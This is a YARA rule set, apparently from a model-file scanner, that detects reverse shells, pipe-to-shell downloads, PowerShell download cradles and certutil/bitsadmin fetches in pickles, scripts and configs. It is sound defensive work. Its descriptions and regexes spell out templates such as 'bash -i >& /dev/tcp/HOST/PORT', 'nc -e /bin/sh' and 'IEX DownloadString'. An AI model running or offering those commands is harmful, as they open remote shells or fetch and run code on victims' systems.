// Reverse shells, download-and-execute one-liners and LOLBin downloads, as they appear in pickled
// payloads (a str argument to os.system / exec), scripts, configs and model metadata.

rule MAL_Shell_Bash_Dev_Tcp_Reverse_Shell
{
    meta:
        id = "MSY-SHL-001"
        description = "Bash reverse shell over /dev/tcp (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        severity = "critical"
        score = 95
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file,tensor-data"
    strings:
        $interactive = /(ba|z|k)?sh\s+-i\s*[0-9]?[<>]&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/\d{1,5}/
        $redirect = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/\d{1,5}\s*[0-9]?[<>]&\s*[0-9]/
        $fd_exec = /exec\s+\d{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/\d{1,5}/
    condition:
        any of them
}

rule MAL_Shell_Netcat_Exec_Shell
{
    meta:
        id = "MSY-SHL-002"
        description = "Netcat/ncat handing a shell to a remote peer (nc -e /bin/sh, ncat --exec cmd.exe)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        severity = "critical"
        score = 90
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.exe|\.traditional|\.openbsd)?\s[^\n;|]{0,80}(-e|-c|--exec|--sh-exec)\s*["']?(\/bin\/(ba|da|z)?sh|cmd(\.exe)?|powershell)/ nocase
    condition:
        $nc_e
}

rule MAL_Shell_Python_Socket_Pty_Reverse_Shell
{
    meta:
        id = "MSY-SHL-003"
        description = "Python reverse shell: socket connect with fd duplication or pty.spawn"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        severity = "critical"
        score = 95
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $pty = /pty\.spawn\(\s*["'](\/bin\/)?(ba|z|da)?sh["']/
        $dup2 = /os\.dup2\(\s*\w{1,20}\.fileno\(\)\s*,\s*[0-2]\s*\)/
        $connect = /\.connect\(\s*\(\s*["'][^"']{1,253}["']\s*,\s*\d{1,5}\s*\)\s*\)/
        $sock = "socket.socket(" ascii
    condition:
        ($pty or $dup2) and ($connect or $sock)
}

rule MAL_Shell_Mkfifo_Reverse_Shell
{
    meta:
        id = "MSY-SHL-004"
        description = "Named-pipe reverse shell (mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc HOST PORT)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        severity = "critical"
        score = 90
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $fifo = /(mkfifo|mknod)\s+\/tmp\/[\w.]{1,32}(\s+p)?/
        $sh_i = /\|\s*\/bin\/(ba|z|da)?sh\s+-i/
        $pipe_nc = /\|\s*(nc|ncat|netcat|openssl\s+s_client)\s/
    condition:
        $fifo and ($sh_i or $pipe_nc)
}

rule SUSP_Shell_Download_Pipe_To_Shell
{
    meta:
        id = "MSY-SHL-005"
        description = "Download piped straight into a shell (curl URL | sh, wget -O- URL | bash); install docs do this too"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1105/"
        severity = "medium"
        score = 55
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $curl = /\b(curl|wget)\s[^\n|;&]{0,200}\|\s*(sudo\s+)?(\/bin\/|\/usr\/bin\/)?(ba|z|da)?sh\b/
        $subst = /(ba)?sh\s+-c\s+["']?\$\((curl|wget)\s/
    condition:
        any of them
}

rule MAL_Shell_PowerShell_Encoded_Command
{
    meta:
        id = "MSY-SHL-006"
        description = "PowerShell started with an encoded command (-enc/-EncodedCommand BASE64)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        severity = "high"
        score = 85
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $enc = /powershell(\.exe)?\s[^\n]{0,80}\s-(e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcomman|encodedcommand)\s+[A-Za-z0-9+\/=]{24}/ nocase
    condition:
        $enc
}

rule MAL_Shell_PowerShell_Download_Cradle
{
    meta:
        id = "MSY-SHL-007"
        description = "PowerShell download cradle (IEX (New-Object Net.WebClient).DownloadString, iwr | iex)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        severity = "critical"
        score = 90
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $iex = /\b(iex|invoke-expression)\b/ nocase
        $dl1 = ".DownloadString(" nocase
        $dl2 = "Net.WebClient" nocase
        $dl3 = /\b(iwr|irm|invoke-webrequest|invoke-restmethod)\s[^\n|]{0,200}\|\s*(iex|invoke-expression)\b/ nocase
    condition:
        $dl3 or ($iex and ($dl1 or $dl2))
}

rule MAL_Shell_Certutil_Bitsadmin_Download
{
    meta:
        id = "MSY-SHL-008"
        description = "Windows LOLBin download (certutil -urlcache -split -f URL, bitsadmin /transfer)"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1105/"
        severity = "high"
        score = 85
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $certutil = /certutil(\.exe)?\s[^\n]{0,40}-urlcache\s[^\n]{0,40}https?:\/\// nocase
        $bits = /bitsadmin(\.exe)?\s[^\n]{0,40}\/transfer\s[^\n]{0,120}https?:\/\// nocase
    condition:
        any of them
}

rule MAL_Shell_Scripting_Language_Reverse_Shell
{
    meta:
        id = "MSY-SHL-009"
        description = "Perl/PHP/Ruby/socat reverse shell one-liners"
        author = "modelscreen"
        date = "2026-11-26"
        reference = "https://attack.mitre.org/techniques/T1059/"
        severity = "critical"
        score = 90
        category = "shell"
        version = 1
        scope = "code,pickle,config,metadata,member,small-file"
    strings:
        $perl = /perl\s+-e\s+["']use\s+Socket;/
        $php = /fsockopen\(\s*["'][^"']{1,253}["']\s*,\s*\d{1,5}\s*\)\s*;\s*(exec|shell_exec|system|passthru|proc_open)\(/
        $ruby = /ruby\s+-rsocket\s+-e/
        $socat = /socat\s[^\n]{0,80}(exec|system):["']?(\/bin\/)?(ba|z|da)?sh/ nocase
    condition:
        any of them
}
